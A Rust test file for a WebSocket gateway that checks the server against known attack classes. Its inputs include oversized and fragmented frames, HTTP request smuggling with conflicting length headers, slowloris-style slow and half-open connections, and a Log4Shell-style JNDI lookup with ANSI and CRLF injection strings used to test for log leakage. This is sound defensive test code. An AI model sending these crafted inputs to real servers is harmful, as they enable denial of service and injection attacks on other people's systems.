//! What went wrong in other servers of WebSockets, tried here: each attack costs whoever makes it, and the node serves on.
//! `docs/security.md` has the list of classes; most of them are held by tests of pure code.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use serde_json::json;

use crate::agent::{Agent, Encoding};
use crate::backend::Backend;
use crate::gateway::{Gateway, SOON, until};
use crate::peer::Peer;

/// What must not be found anywhere.
const MARK: &str = "m4rk";

fn connect(gateway: &Gateway) -> TcpStream {
    let stream = TcpStream::connect(gateway.agents).expect("connects");
    stream.set_read_timeout(Some(SOON)).expect("a time-out");
    stream.set_nodelay(true).expect("no delay");
    stream
}

/// A request for an upgrade to the echo, with more fields.
fn request(target: &str, fields: &str) -> String {
    format!(
        "GET {target} HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{fields}\r\n"
    )
}

/// All that comes back until the end.
fn all_of(mut stream: TcpStream) -> String {
    let mut answer = Vec::new();
    match stream.read_to_end(&mut answer) {
        Err(error) if error.kind() != ErrorKind::ConnectionReset => panic!("not closed in time: {error}"),
        _ => String::from_utf8_lossy(&answer).into_owned(),
    }
}

/// The head of the answer.
fn head_of(stream: &mut TcpStream) -> String {
    let mut head = Vec::new();
    let mut byte = [0];
    while !head.ends_with(b"\r\n\r\n") {
        stream.read_exact(&mut byte).expect("an answer");
        head.push(byte[0]);
    }
    String::from_utf8(head).expect("a head in ASCII")
}

/// An agent that is called still answers.
fn serves(gateway: &Gateway) {
    let mut agent = Agent::connect(gateway, "honest", Encoding::Json);
    let call = Backend::of(gateway).begin("honest", json!({"method": "m"}));
    let order = agent.call();
    agent.answer(order.call, &json!(7));
    call.end().expect_result("honest", &json!(7), order.call);
}

fn leases(gateway: &Gateway) -> u64 {
    gateway.memory()["parts"]["leases"].as_u64().expect("a number")
}

#[test]
fn announcements_cost_nothing() {
    let gateway = Gateway::start("[server]\nloops = 1\n[heartbeat]\ninterval = \"10m\"\n");
    // The largest message that is allowed, and five bytes of it.
    let announced = [&[0x81, 0x80 | 127][..], &(1u64 << 20).to_be_bytes(), &[0; 4], b"\"1234"].concat();
    let mut peers: Vec<Peer> = (0..200).map(|number| Peer::agent(&gateway, &format!("large-{number}"))).collect();
    for peer in &mut peers {
        peer.raw().write_all(&announced).expect("sent");
    }
    let each = 4096;
    until(|| leases(&gateway) >= 200 * 5, "what they sent is there");
    // 200 MiB were announced.
    assert!(leases(&gateway) <= 200 * each + (1 << 20), "{}", leases(&gateway));
    serves(&gateway);
}

#[test]
fn a_message_in_very_many_pieces_costs_no_more_than_its_bytes() {
    const PIECES: usize = 100_000;
    let gateway = Gateway::start("[server]\nloops = 1\n[heartbeat]\ninterval = \"10m\"\n");
    let mut peer = Peer::agent(&gateway, "shredder");
    let before = leases(&gateway);
    // A quote, then pieces of a byte or of none, then the other quote: a JSON text that is no envelope.
    let mut frames = vec![0x01, 0x81, 0, 0, 0, 0, b'"'];
    for number in 0..PIECES {
        match number % 2 {
            0 => frames.extend([0x00, 0x80, 0, 0, 0, 0]),
            _ => frames.extend([0x00, 0x81, 0, 0, 0, 0, b'x']),
        }
    }
    peer.raw().write_all(&frames).expect("sent");
    serves(&gateway);
    assert!(leases(&gateway) <= before + 2 * PIECES as u64, "{}", leases(&gateway));
    peer.raw().write_all(&[0x80, 0x81, 0, 0, 0, 0, b'"']).expect("sent");
    assert_eq!(peer.json()["error"]["code"], -32600);

    // Without an end it goes as far as a message may.
    let mut endless = Peer::agent(&gateway, "endless");
    let piece = [&[0x00, 0xfe, 0x7f, 0xff, 0, 0, 0, 0][..], &[b'x'; 0x7fff]].concat();
    endless.raw().write_all(&[0x01, 0x80, 0, 0, 0, 0]).expect("sent");
    while endless.raw().write_all(&piece).is_ok() {
        if gateway.closed_for("too_big") == 1 {
            break;
        }
    }
    gateway.wait_closed_for("too_big", 1);
    serves(&gateway);
}

#[test]
fn no_compression_is_agreed_to() {
    let gateway = Gateway::start("");
    for offer in ["permessage-deflate", "permessage-deflate; server_max_window_bits=99", "x-webkit-deflate-frame"] {
        let mut stream = connect(&gateway);
        let fields = format!("Sec-WebSocket-Extensions: {offer}\r\n");
        stream.write_all(request("/dev/echo", &fields).as_bytes()).expect("sent");
        let head = head_of(&mut stream);
        assert!(head.starts_with("HTTP/1.1 101 "), "{offer}: {head}");
        assert!(!head.to_ascii_lowercase().contains("sec-websocket-extensions"), "{offer}: {head}");
        // A compressed frame was never agreed to: 1002.
        stream.write_all(&[0xc1, 0x81, 0, 0, 0, 0, 0]).expect("sent");
        let mut close = [0; 4];
        stream.read_exact(&mut close).expect("a close frame");
        assert_eq!((close[0], u16::from_be_bytes([close[2], close[3]])), (0x88, 1002), "{offer}");
    }
    // A quoted text without an end is no list of extensions.
    let mut stream = connect(&gateway);
    let endless = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits=\"10\\\r\n";
    stream.write_all(request("/dev/echo", endless).as_bytes()).expect("sent");
    assert!(head_of(&mut stream).starts_with("HTTP/1.1 400 "));
}

#[test]
fn what_follows_a_refused_request_is_not_served() {
    let gateway = Gateway::start("");
    let good = request("/dev/echo", "");
    for (what, bad) in [
        ("a body", request("/dev/echo", "Content-Length: 5\r\n")),
        ("chunks", request("/dev/echo", "Transfer-Encoding: chunked\r\n")),
        ("both", request("/dev/echo", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n")),
        ("two lengths", request("/dev/echo", "Content-Length: 0\r\nContent-Length: 5\r\n")),
        ("no such path", request("/v1/agents", "")),
        ("an absolute path", request("http://elsewhere/dev/echo", "")),
        ("no version that we speak", good.replace("Version: 13", "Version: 8")),
        ("a folded field", request("/dev/echo", "X: a\r\n b\r\n")),
        ("a space before the colon", request("/dev/echo", "X : a\r\n")),
        ("no upgrade", good.replace("Upgrade: websocket\r\n", "")),
        ("another method", good.replace("GET ", "POST ")),
        ("HTTP/1.0", good.replace("HTTP/1.1", "HTTP/1.0")),
    ] {
        let mut stream = connect(&gateway);
        let _ = stream.write_all(format!("{bad}{good}").as_bytes());
        let answer = all_of(stream);
        assert_eq!(answer.matches("HTTP/1.1 ").count(), 1, "{what}: {answer}");
        let refused = ["HTTP/1.1 4", "HTTP/1.1 505 "].iter().any(|status| answer.starts_with(status));
        assert!(refused && !answer.contains(" 101 "), "{what}: {answer}");
    }
    serves(&gateway);
}

#[test]
fn a_head_a_byte_at_a_time_is_read_in_no_time() {
    let gateway = Gateway::start("[server]\nloops = 1\n[limits]\nhandshake_deadline = \"5m\"\n");
    // As long as a head may be, of what others took superlinear time for.
    let fields = format!("Sec-WebSocket-Protocol: b{}x\r\nX: {}\r\n", " ".repeat(3000), ",;\"\\".repeat(1000));
    let head = request("/dev/echo", &fields);
    assert!((7000..8192).contains(&head.len()), "{}", head.len());
    let used = || cpu_ticks(gateway.process_id());
    let before = used();
    let mut stream = connect(&gateway);
    for byte in head.as_bytes() {
        stream.write_all(&[*byte]).expect("sent");
    }
    let answer = head_of(&mut stream);
    assert!(answer.starts_with("HTTP/1.1 "), "{answer}");
    // Of processor time, not of the clock: a system call and a look for each byte. What others took was minutes.
    let ticks = used() - before;
    assert!(ticks < 300, "{ticks} hundredths of a second of processor time");
}

/// Hundredths of a second that a process has run.
fn cpu_ticks(pid: u32) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).expect("it runs");
    let fields: Vec<&str> = stat.rsplit(')').next().unwrap_or_default().split_whitespace().collect();
    [11, 12].map(|at: usize| fields[at].parse::<u64>().expect("ticks")).iter().sum()
}

#[test]
fn the_largest_crowd_of_half_open_requests_keeps_nobody_out() {
    let gateway = Gateway::start("[server]\nloops = 1\n[limits]\nhalf_open = 8\nhandshake_deadline = \"2s\"\n");
    let mut inside = Agent::connect(&gateway, "inside", Encoding::Json);
    let crowd: Vec<TcpStream> = (0..8)
        .map(|_| {
            let mut stream = connect(&gateway);
            stream.write_all(b"GET ").expect("sent");
            stream
        })
        .collect();
    gateway.wait_metric("holdfast_connections", "", 9);
    assert!(all_of(connect(&gateway)).starts_with("HTTP/1.1 503 "));
    let call = Backend::of(&gateway).begin("inside", json!({"method": "m"}));
    let order = inside.call();
    inside.answer(order.call, &json!(7));
    call.end().expect_result("inside", &json!(7), order.call);
    // They have their time, and then there is room again.
    gateway.wait_closed_for("handshake_timeout", 8);
    serves(&gateway);
    drop(crowd);
}

#[test]
fn what_strangers_send_reaches_no_log_and_no_metric() {
    let gateway = Gateway::start("[log]\nlevel = \"trace\"\n");
    let nasty = format!("{MARK}${{jndi:ldap://{MARK}}}\x1b[31m%0a\"{MARK}");
    for (target, fields) in [
        (format!("/{MARK}"), String::new()),
        (format!("/v1/agent?access_token={MARK}"), String::new()),
        (format!("/v1/agent?agent={MARK}%0a"), String::new()),
        ("/v1/agent".to_owned(), format!("Authorization: Bearer {MARK}\r\n")),
        ("/v1/agent".to_owned(), format!("Origin: https://{MARK}\r\n")),
        ("/v1/agent".to_owned(), format!("User-Agent: {nasty}\r\nX-Forwarded-For: {nasty}\r\nCookie: {nasty}\r\n")),
        ("/dev/echo".to_owned(), format!("Sec-WebSocket-Protocol: {nasty}\r\n")),
    ] {
        let mut stream = connect(&gateway);
        stream.write_all(request(&target, &fields).as_bytes()).expect("sent");
        assert!(head_of(&mut stream).starts_with("HTTP/1.1 "), "{target}");
    }
    let backend = Backend::of(&gateway);
    for path in [format!("/{MARK}"), format!("/v1/agents/{MARK}%0a{MARK}"), format!("/v1/agents?label={MARK}%3d{MARK}")]
    {
        backend.get(&path);
    }
    let mut agent = Agent::connect(&gateway, "there", Encoding::Json);
    let call = backend.begin("there", json!({"method": format!("{MARK}.run"), "params": nasty}));
    let order = agent.call();
    agent.progress(order.call, &json!(nasty));
    agent.refuse(order.call, 7, &nasty, &json!(nasty));
    assert_eq!(call.end().outcome("there"), "agent_error");
    agent.peer.send(tungstenite::Message::text(format!("{{{nasty}")));
    agent.peer.send(tungstenite::Message::Ping(nasty.clone().into_bytes().into()));
    let close = tungstenite::protocol::CloseFrame { code: 4999.into(), reason: format!("{MARK}\n").into() };
    agent.peer.send(tungstenite::Message::Close(Some(close)));
    gateway.wait_no_agents();
    std::thread::sleep(Duration::from_millis(50));
    let metrics = gateway.page("/metrics");
    assert!(metrics.contains("holdfast_agents") && !metrics.contains(MARK), "{metrics}");
    let log = gateway.log();
    assert!(log.contains("agent disconnected"), "{log}");
    let found: Vec<&str> = log.lines().filter(|line| line.contains(MARK) || line.contains("\x1b[31m")).collect();
    assert!(found.is_empty(), "{found:#?}");
}
